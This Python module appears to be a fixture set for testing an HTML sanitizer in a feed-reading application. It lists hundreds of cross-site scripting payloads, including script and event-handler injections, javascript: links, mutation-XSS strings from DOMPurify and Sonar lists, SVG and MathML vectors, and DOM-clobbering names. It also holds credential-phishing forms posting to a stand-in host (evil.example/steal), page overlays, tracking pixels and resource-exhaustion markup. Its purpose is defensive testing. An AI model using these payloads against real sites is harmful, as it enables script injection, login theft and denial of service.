# ruff: noqa: E501
"""HTML of items that attack the page which shows them, by what each one tries. No test is in here.

A script that runs calls `alert` and sets `ran`; whatever is requested names FAR. Many of the mutations are from the
lists of DOMPurify (https://github.com/cure53/DOMPurify/blob/main/test/fixtures/expect.mjs) and of Sonar
(https://sonarsource.github.io/mxss-cheatsheet/).
"""

from html import escape

FAR = "https://evil.example"
RUN = "top.ran=1,alert(1)"
_IMG = f"<img src=x onerror={RUN}>"
_QUOTED = escape(_IMG)
_COVER = "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:red"

SCRIPTS = {
    "script": f"<script>{RUN}</script>",
    "script of another host": f"<script src={FAR}/x.js></script><script type=module src={FAR}/y.js></script>",
    "script in a comment that ends early": f"<!--><script>{RUN}</script>--><!---><script>{RUN}</script>-->",
    "script without end": f"<script>{RUN}",
    "script in broken tags": f"<scr<script>ipt>{RUN}</scr</script>ipt><<script>{RUN}//<</script>",
    "script with a slash": f"<script/x>{RUN}</script\t\n bar>",
    "script that ends our page": f"</div></article></main></body></html><script>{RUN}</script>",
    "event attributes": "".join(
        f"<{tag} {event}={RUN} tabindex=1 autofocus>x</{tag}>"
        for tag, event in (
            ("p", "onmouseover"), ("div", "onfocus"), ("b", "onpointerenter"), ("details open", "ontoggle"),
            ("div style=animation-name:x", "onanimationstart"), ("marquee", "onstart"), ("body", "onload"),
            ("xss", "onfocus"), ("div contenteditable", "onfocus"), ("p", "onbeforematch"),
        )
    ),
    "events of media": f"{_IMG}<video onerror={RUN} src=x></video><audio oncanplay={RUN}><source onerror={RUN}></audio>"
    f"<img/src=x/onerror={RUN}><img src=x:x onerror\n=\n{RUN}><image src=x onerror={RUN}>",
    "javascript links": "".join(
        f"<a href=\"{address}\">x</a>"
        for address in (
            f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"\x01javascript:{RUN}",
            f"&#106;avascript&colon;{RUN}", f"javascript&#58;{RUN}", f"vbscript:{RUN}", f" javascript:{RUN}",
            f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            f"blob:{FAR}/1", "file:///etc/passwd", f"feed:javascript:{RUN}", f"view-source:{FAR}",
        )
    ),
    "javascript in other addresses": f"<img src=javascript:{RUN}><iframe src=javascript:{RUN}></iframe>"
    f"<form action=javascript:{RUN}><button>x</button></form><button formaction=javascript:{RUN}>x</button>"
    f"<object data=javascript:{RUN}></object><embed src=javascript:{RUN}><base href=javascript:{RUN}//>"
    f"<link rel=stylesheet href=javascript:{RUN}><table background=javascript:{RUN}><td>x</table>",
    "images of data": f"<img src='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22{RUN}%22/>'>",
    "svg with script": f"<svg onload={RUN}><script>{RUN}</script><animate onbegin={RUN} attributeName=x dur=1s>"
    f"<a xlink:href=javascript:{RUN}><text y=20>x</text></a><use href='data:image/svg+xml,x#x'/>"
    f"<image href={FAR}/i.png /><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
    "svg that sets a link": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a>"
    f"<set attributeName=onmouseover to={RUN} /></svg>",
    "math": f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction><mi href=javascript:{RUN}>y",
    "frames": f"<iframe srcdoc='<script>{RUN}</script>'></iframe><iframe src={FAR}></iframe><frameset onload={RUN}>"
    f"<frame src={FAR}></frameset><object data={FAR}/o><param name=src value={FAR}></object><embed src={FAR}/e>"
    f"<portal src={FAR}></portal><applet code={FAR}></applet><fencedframe></fencedframe>",
}  # fmt: skip

PAGES = {
    "refresh": f"<meta http-equiv=refresh content='0;url={FAR}/refresh'><META HTTP-EQUIV='refresh' CONTENT='0;URL=/login'>",
    "base": f"<base href={FAR}/ target=_top><a href=/x>x</a><img src=/y.png>",
    "policy of its own": "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\">"
    "<meta name=referrer content=unsafe-url>",
    "form": f"<form action={FAR}/steal method=post id=marks><input name=password autofocus><button>Log in</button></form>"
    f"<input form=marks formaction={FAR} type=submit><textarea form=marks>x</textarea><select form=marks><option>x",
    "form around the rest of the page": f"</div></article><form action={FAR}/steal><button>Mark all read</button>",
    "style": f"<style>*{{display:none!important}} @import '{FAR}/a.css'; body{{background:url({FAR}/b.png)}}</style>"
    f"<link rel=stylesheet href={FAR}/c.css><link rel=preload as=image href={FAR}/d><link rel=prefetch href={FAR}/e>"
    f"<link rel=dns-prefetch href={FAR}><link rel=icon href={FAR}/f.ico><link rel=manifest href={FAR}/m>",
    "style without end": "<p>seen</p><style>*{display:none!important}",
    "cover": f"<div style='{_COVER}'>Log in again</div><a href={FAR} style='{_COVER};opacity:0'>x</a>"
    f"<center style='margin:-9999px;padding:9999px'><a href={FAR}>x</a></center>",
    "our own classes": "<div class='top skip say'>x</div><p class=say>x</p><nav class=column>x</nav><ol id=entries class=entries>"
    "<li class='entry unread' id=i-1 data-id=1 data-of=a>x</ol><dialog open class=keys>x</dialog><div popover>x</div>",
    "names of our script": "<img name=body><a id=list><a id=list name=dataset><form id=say name=getElementById><input id=cookie>"
    "<img name=currentScript><p id=main>x</p><p id=marks>x</p><iframe name=top></iframe>",
    "a wide table and a long word": f"<table width=99999><tr><td>{'x' * 3_000}</table><p>{'y' * 3_000}</p>"
    f"<pre>{'z' * 3_000}</pre><img width=9999 height=9999 src=/w.png>",
    "letters that tower": f"<p>{'Z' + chr(0x0300) * 600} {'a' + chr(0x0351) * 600}</p>" * 5,
    "turned text": "<bdo dir=rtl>txet</bdo>\u202e\u2066 turned <p dir=rtl>\u202eright</p>" + "\u202b" * 200,
    "ends of our tags": "</div>" * 50 + "</article></main></div></body></html><p>outside</p>" + "</ol></li>" * 9,
    "tags that swallow the page": "<p>before</p><textarea><title><xmp><plaintext><noscript><template><select><!-- <![CDATA[",
    "a comment without end": "<p>before</p><!-- ",
    "an attribute without end": f"<p>before</p><a href=\"{FAR}/?",
    "an image that takes the rest of the page": f"<p>before</p><img src='{FAR}/?",
    "foreign media": f"<img src={FAR}/a.png><img srcset='{FAR}/b.png 2x'><picture><source srcset={FAR}/c.png></picture>"
    f"<video src={FAR}/d.mp4 poster={FAR}/e.png autoplay preload=auto></video><audio src={FAR}/f.mp3 autoplay preload=auto>"
    f"</audio><video autoplay><source src={FAR}/g.mp4><track default src={FAR}/h.vtt></video><img lowsrc={FAR}/i.png>"
    f"<img data-src={FAR}/j.png loading=lazy><noscript><img src={FAR}/k.png></noscript><input type=image src={FAR}/l.png>"
    f"<table background={FAR}/m.png><td background={FAR}/n.png>x</table><body background={FAR}/o.png>"
    f"<a href={FAR} ping={FAR}/p>x</a><q cite={FAR}/q>x</q><img src=//evil.example/r.png><bgsound src={FAR}/s.mid>"
    f"<img src={FAR}/count.gif width=1 height=1><img usemap=#m src={FAR}/t><map name=m><area href={FAR}></map>",
    "images that look like the archive's": "<img src=/api/images/images/news/1/0.png><img src=/static/x.png><img src=.>"
    "<img src=/logout><img src=http://127.0.0.1:1/x.png>",
    "a link to a window of ours": f"<a href={FAR} target=_top rel=opener>x</a><a href=/logout target=_self>x</a>",
    "250 open tags": "<b><i><u><a href=/x>" * 62 + "<p>x",
    "tags without end by the thousand": "<div>" * 50_000 + f"{_IMG}",
    "formatting that comes again": "<b><big><i><tt>" * 300 + "<p>x" * 3_000,
    "an item of 2 MB": "<p>A sentence of some length. </p>" * 57_000,
    "an item of 900,000 letters": f"<p>{'A sentence of some length. ' * 30}</p>" * 1_100,
    "1,000 images": "".join(f"<p><a href=/p{n}><img src={FAR}/{n}.png alt='Image {n}'></a></p>" for n in range(1_000)),
}  # fmt: skip

MUTATIONS = {
    f"mutation {number}": html
    for number, html in enumerate(
        (
            f"<noscript><p title=\"</noscript>{_IMG}\"></noscript>",
            f"<noscript><style></noscript>{_IMG}</style></noscript>",
            f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;{_QUOTED}\">",
            f"<math><mtext><table><mglyph><style><math>{_IMG}</style>",
            f"<form><math><mtext></form><form><mglyph><style></math>{_IMG}</style></mglyph></form>",
            f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style>{_IMG}\">",
            f"<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title=\"</style>{_IMG}\">",
            f"<svg></p><style><a id=\"</style>{_IMG}\">",
            f"<svg><p><style><a id=\"</style>{_IMG}\"></p></svg>",
            f"<svg><foreignobject><p><style><!--</style><a href=\"-->{_IMG}\">",
            f"<math><annotation-xml encoding=\"text/html\"><style>{_IMG}</style></annotation-xml></math>",
            f"<svg><annotation-xml><foreignobject><style><!--</style><p id=\"--><img src='x' onerror={RUN}>\">",
            f"<math><mi><mglyph><style><![CDATA[</style>{_IMG}]]></style></mglyph></mi></math>",
            f"<svg><style><![CDATA[</style>{_IMG}]]></style></svg>",
            f"<svg><desc><style><a title=\"</style>{_IMG}\"></style></desc></svg>",
            f"<svg><title><style><a title=\"</style></title>{_IMG}\"></style></title></svg>",
            f"<table><td><select><style></select>{_IMG}</style>",
            f"<select><template><style><!--</template><a rel=\"--></style>{_IMG}</select>\">",
            f"<select><iframe><select><img src=x: onerror={RUN}>",
            f"<xmp><p id=\"</xmp>{_IMG}\"></xmp>",
            f"<noembed><p id=\"</noembed>{_IMG}\"></noembed><noframes><p id=\"</noframes>{_IMG}\">",
            f"<textarea><a title=\"</textarea>{_IMG}\"></textarea>",
            f"<title><a title=\"</title>{_IMG}\"></title><iframe><a title=\"</iframe>{_IMG}\"></iframe>",
            f"<template>{_IMG}<script>{RUN}</script></template><template shadowrootmode=open>{_IMG}</template>",
            f"<div><template shadowrootmode=open><style>:host{{{_COVER}}}</style>{_IMG}</template></div>",
            f"<![CDATA[{_IMG}]]><?xml {_IMG} ?><!DOCTYPE html [<!ENTITY x '{_QUOTED}'>]>&x;<! {_IMG}>",
            f"<!--!>{_IMG}<!-- --!>{_IMG}--><!-- a --- {_IMG} ---!>",
            f"<p title='`\">{_IMG}'><img src=\"x` `<script>{RUN}</script>\"` `>",
            f"<img src='{FAR}/\"onerror={RUN}//.png'><a href='{FAR}/\"onmouseover={RUN}//'>x</a>",
            f"<a href=\"{FAR}/&quot;&gt;{_QUOTED}\" title=\"&quot;&gt;{_QUOTED}\">&lt;img src=x onerror={RUN}&gt;</a>",
            f"<plaintext>{_IMG}",
            f"<isindex type=image src={FAR}/1 onerror={RUN}><keygen autofocus onfocus={RUN}><command onclick={RUN}>",
            f"<br><br><br><math></br><style><!--</style>{_IMG}-->",
            f"<a><svg><a><style><a title=\"</style>{_IMG}\">",
            f"<table><tr><td><a href={FAR}/1><table><tr><td><a href={FAR}/2>x<img src={FAR}/3.png></table></a></table>",
            f"<p><b><a href={FAR}/1><p><a href={FAR}/2><img src={FAR}/4.png><div></a></b><h2></a>x",
            f"\x01<scr\x01ipt>{RUN}</scr\x01ipt><img src=x on\x01error={RUN}><\x01script>{RUN}</script>",
            f"\ufeff<img\u2028src=x\u2029onerror={RUN}>\u00a0<svg\u000conload={RUN}>＜script＞{RUN}＜/script＞",
            f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-<meta charset=utf-7>",
            "{{constructor.constructor('alert(1)')()}}{% raw %}{{ frame }}{% endraw %}${alert(1)}<p>&#123;&#123; 7*7 }}</p>",
        )
    )
}  # fmt: skip

_SHAPE = "<path d='M0 0h9v9z'/>"
_FRAGMENT = "data:image/svg+xml,<svg id=a onload=alert(1)>%23a"

DRAWINGS = {
    f"drawing {number}": html
    for number, html in enumerate(
        (
            # Scripts and events.
            f"<svg>{_SHAPE}<script>{RUN}</script><script href={FAR}/s.js /><script xlink:href='data:,{RUN}'/></svg>",
            f"<svg onload={RUN} onbegin={RUN}>{_SHAPE}<g onclick={RUN} onfocusin={RUN} tabindex=0 autofocus>{_SHAPE}</g></svg>",
            f"<svg><svg onload={RUN}><path onload={RUN}/></svg><image href=x onerror={RUN} /><use onload={RUN} /></svg>",
            f"<svg>{_SHAPE}<handler type=text/javascript ev:event=load>{RUN}</handler><listener event=load handler=#x /></svg>",
            f"<svg>{_SHAPE}<style>@import '{FAR}/s.css';*{{x:expression({RUN})}}</style><style>{_IMG}</style></svg>",
            f"<svg>{_SHAPE}<set attributeName=onload to={RUN} /><animate attributeName=href to=javascript:{RUN} begin=0s /></svg>",
            f"<svg><a><text y=9>x</text><animate attributeName=xlink:href values='javascript:{RUN};x' /></a>"
            f"<animateTransform onend={RUN} dur=1ms /><animateMotion onbegin={RUN}><mpath href={FAR}/m#p /></animateMotion></svg>",
            # Where they lead.
            f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a><a href={FAR} target=_top>{_SHAPE}</a></svg>",
            f"<svg xml:base={FAR}/><a href=x><text y=20>x</text></a><use href=#y /></svg>",
            f"<svg><view id=v viewBox='0 0 1 1'/><a href=#v>{_SHAPE}</a></svg><a href=#v>x</a>",
            # What they load.
            f"<svg><image href={FAR}/i.png width=9 height=9 /><image xlink:href={FAR}/j.png /></svg>",
            f"<svg><use href={FAR}/u.svg#a /><use xlink:href='{_FRAGMENT}'/><use href='//evil.example/u#a'/></svg>",
            f"<svg><rect fill='url({FAR}/f#a)' width=9 height=9 /><rect style='fill:url({FAR}/g#a)' width=9 height=9 /></svg>",
            f"<svg><rect width=9 height=9 filter='url({FAR}/h#a)' mask='url(\"{FAR}/m#a\")' clip-path='URL({FAR}/c#a)'/></svg>",
            f"<svg><path d='M0 0L9 9' marker-start=url({FAR}/n#a) marker-mid='url( {FAR}/o#a )' marker-end=\"url('{FAR}/p#a')\"/></svg>",
            f"<svg><rect width=9 height=9 fill='u\\72l({FAR}/q)' stroke='url/**/({FAR}/r)' mask='image-set(\"{FAR}/s\" 1x)'/></svg>",
            f"<svg><filter id=f><feImage href={FAR}/t /><feImage xlink:href={FAR}/v /></filter><rect width=9 height=9 filter=url(#f) /></svg>",
            f"<svg><pattern id=p><image href={FAR}/w /></pattern><mask id=m><use href={FAR}/x#a /></mask>"
            f"<rect fill=url(#p) mask=url(#m) width=9 height=9 /></svg>",
            f"<svg><linearGradient id=g href={FAR}/y#a /><textPath href={FAR}/z#a>x</textPath><text cursor='url({FAR}/cur),auto'>y</text></svg>",
            f"<svg><font-face-src><font-face-uri xlink:href={FAR}/font /></font-face-src><cursor href={FAR}/c2 /><color-profile xlink:href={FAR}/cp />"
            f"{_SHAPE}</svg>",
            f"<svg><discard/><audio src={FAR}/a.mp3 autoplay /><video href={FAR}/v.mp4 /><iframe href={FAR}/if /><canvas/>{_SHAPE}</svg>",
            f"<?xml-stylesheet href={FAR}/x.css?><svg>{_SHAPE}</svg><!DOCTYPE svg [<!ENTITY e SYSTEM '{FAR}/e'>]><svg><text y=9>&e;</text></svg>",
            # HTML in them, and where they end.
            f"<svg><foreignObject><iframe srcdoc='{_QUOTED}'></iframe>{_IMG}<form><button>x</button></form></foreignObject></svg>",
            f"<svg><foreignObject><svg><foreignObject><style><a title='</style>{_IMG}'></foreignObject></svg></foreignObject></svg>",
            f"<svg><title><b>x</b>{_IMG}</title><desc>{_IMG}<style></desc></style></desc>{_SHAPE}</svg>",
            f"<svg><title>&lt;/title>&lt;script>{RUN}&lt;/script></title>{_SHAPE}</svg>",
            f"<svg><title></svg></title>{_IMG}</svg>",
            f"<svg>{_SHAPE}</p><style><a title='</style>{_IMG}'></svg>",
            f"<svg><br><style><a alt='</style>{_IMG}'><svg>{_SHAPE}</svg>",
            f"<svg><font face=x><style>{_IMG}</style></font><font><style><p id='</style>{_IMG}'></font></svg>",
            f"<svg><![CDATA[><image xlink:href='x' onerror={RUN}></image>]]>{_SHAPE}<![CDATA[</svg>{_IMG}]]></svg>",
            f"<svg><metadata>{_IMG}</metadata><switch><g>{_SHAPE}</g><foreignObject>{_IMG}</foreignObject></switch></svg>",
            f"<svg><template>{_IMG}</template><textarea>{_IMG}</textarea><xmp>{_IMG}</xmp><noscript>{_IMG}</noscript>{_SHAPE}</svg>",
            f"<svg><desc><svg><script>{RUN}</script></svg></desc><g aria-label='\"><script>{RUN}</script>'>{_SHAPE}</g></svg>",
            f"<svg><title>\"><script>{RUN}</script></title>{_SHAPE}</svg><svg aria-label='\"onload={RUN} x=\"'>{_SHAPE}</svg>",
            # What they cover, and how long they take.
            f"<svg style='{_COVER}' width=99999 height=99999 overflow=visible class=top><rect x=-9999 y=-9999 width=99999 height=99999 /></svg>",
            "<svg viewBox='0 0 1 1' width=9999px height=9999 transform='translate(-500 -900) scale(99)'><rect width=1 height=1 /></svg>",
            "<svg><g id=a0>" + "<path/>" * 9 + "</g>"
            + "".join(f"<g id=a{n}>{f'<use href=#a{n - 1} />' * 9}</g>" for n in range(1, 9)) + "</svg>",
            "<svg><pattern id=p><rect width=9 height=9 fill=url(#p) /></pattern><g id=q><use href=#q /></g><rect fill=url(#p) /></svg>",
            "<svg>" + "<g>" * 240 + "<text y=9>x</text>",
            # Names.
            "<svg id=list><g id=marks name=body>" + _SHAPE + "</g></svg><a href=#list>x</a><svg><use href=#say /><use href=#sign-star /></svg>",
            "<svg><path id=user-content-x d='M0 0'/><path id=getElementById d='M0 0'/></svg><a href=#getElementById>x</a>",
            "<p id=cookie>x</p><a id=body name=body href=#cookie>y</a><img id=currentScript name=all><a href=#currentScript>z</a>",
            # Formulas.
            f"<math href=javascript:{RUN}><mi xlink:href=javascript:{RUN} onclick={RUN}>x</mi><mtext>{_IMG}</mtext></math>",
            f"<math><maction actiontype=statusline#{FAR} xlink:href={FAR}><mi>x</mi><mtext>javascript:{RUN}</mtext></maction></math>",
            f"<math><mi style='{_COVER}' mathbackground=red mathsize=9999em>x</mi><mspace width=9999em height=9999em /></math>",
            f"<math><mpadded voffset=9999px lspace=-9999px><mi>x</mi></mpadded><mglyph src={FAR}/g.png alt=x /></math>",
            f"<math><annotation-xml encoding=text/html><script>{RUN}</script>{_IMG}</annotation-xml><mi>x</mi></math>",
            f"<math><semantics><mi>x</mi><annotation encoding=application/x-tex></annotation>{_IMG}</annotation></semantics></math>",
            f"<math alttext='\"><script>{RUN}</script>'><mi>x</mi></math><math alttext='</math>{_QUOTED}'></math>",
            f"<math><mtext><svg><mtext><style><a title='</style>{_IMG}'></mtext></svg></mtext><mi>x</mi></math>",
            f"<math><annotation-xml><svg><foreignObject><math><annotation-xml encoding='application/xhtml+xml'>{_IMG}",
            f"<math><mtext><mglyph><mtext><style><!--</style>{_IMG}--></style></mtext></mglyph></mtext></math>",
            f"<script type=math/tex></script>{_IMG}\\)<script>{RUN}</script></script><script type='math/mml'><math><mi>{_IMG}</mi></math></script>",
            f"<m:math><m:mtext><m:script>{RUN}</m:script></m:mtext></m:math><svg:svg><svg:script>{RUN}</svg:script><svg:a href=javascript:{RUN} /></svg:svg>",
            # Frames and what is left of them.
            f"<iframe src={FAR}/f1 title='\"><script>{RUN}</script>'></iframe><iframe src=javascript:{RUN}></iframe>"
            f"<iframe srcdoc='{_QUOTED}'></iframe><iframe src=data:text/html,x></iframe>",
            "<iframe src='https://www.youtube.com/embed/abcDEF123_-\"onload=alert(1) x=\"'></iframe>"
            "<iframe src='https://www.youtube.com/embed/abcDEF123_-' title='\"><img src=x onerror=alert(1)>'></iframe>",
            f"<a class=embedded href={FAR}/e data-frame={FAR}/e data-origin>x</a><svg>{_SHAPE}</svg>"
            "<a class=embedded href=https://www.youtube.com.evil.example/watch?v=abcDEF123_->y</a>",
            f"<object data={FAR}/o type=image/png><embed src={FAR}/e2 type=image/png></object><object type=image/svg+xml data='{_FRAGMENT}'></object>",
            f"<object><param name=movie value=javascript:{RUN}><param name=url value={FAR}/p>{_IMG}</object>",
            f"<noscript>{_IMG}<iframe src={FAR}/n></iframe><style>*{{display:none}}</style></noscript><noscript><img src={FAR}/n.png></noscript>",
            f"<noscript><p title='</noscript>{_IMG}'><img src=x></noscript>",
            f"<video poster={FAR}/po.png onerror={RUN}></video><video poster=javascript:{RUN} src=x autoplay></video>",
            f"<text onclick={RUN}>a</text><path onload={RUN}>b</path><set attributeName=x>c</set><image src={FAR}/im.png onerror={RUN}>",
        )
    )
}  # fmt: skip

ATTACKS = {**SCRIPTS, **PAGES, **MUTATIONS, **DRAWINGS}
